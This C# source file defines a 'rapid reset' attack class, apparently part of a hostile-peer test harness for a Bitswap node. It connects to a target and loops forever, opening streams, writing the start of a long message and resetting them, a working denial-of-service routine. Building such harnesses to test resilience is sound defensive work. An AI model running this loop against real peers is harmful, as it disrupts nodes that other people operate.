using Bitswap.Node.Networks;

namespace Bitswap.Hostile.Attacks;

/// <summary>Opens streams and resets them at once.</summary>
internal sealed class RapidReset : Attack
{
    // the length of a long message, and its first byte
    private static readonly byte[] _beginning = [0x80, 0x80, 0x80, 0x01, 0x0A];

    public override string Name => "rapid reset";

    public override string Summary => "a stream that is opened, agrees on Bitswap, begins a message and is reset, again and again";

    public override async Task RunAsync(Multiaddr target, int attacker, CancellationToken cancellationToken)
    {
        await using AttackPeer peer = await AttackPeer.ConnectAsync(target, reads: true, cancellationToken);
        while (true)
        {
            await using IByteStream stream = await peer.OpenAsync(cancellationToken);
            await stream.WriteAsync(_beginning, cancellationToken);
            stream.Reset();
        }
    }
}
